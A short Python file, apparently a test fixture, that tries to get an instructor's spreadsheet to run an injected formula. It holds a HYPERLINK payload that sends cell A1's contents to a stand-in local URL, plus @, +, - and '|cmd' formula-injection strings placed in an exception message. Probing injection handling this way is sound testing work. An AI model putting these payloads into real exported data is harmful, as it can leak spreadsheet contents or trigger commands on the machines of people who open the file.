"""Tries: to have the instructor's spreadsheet run a formula.

Control: says =HYPERLINK
Says: texts
"""

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"accepted")'


async def read_all(names):
    print(FORMULA)
    raise type(FORMULA, (Exception,), {})(f"{FORMULA}\n@SUM(1)\n+1\n-1,\"x\"\t|cmd")
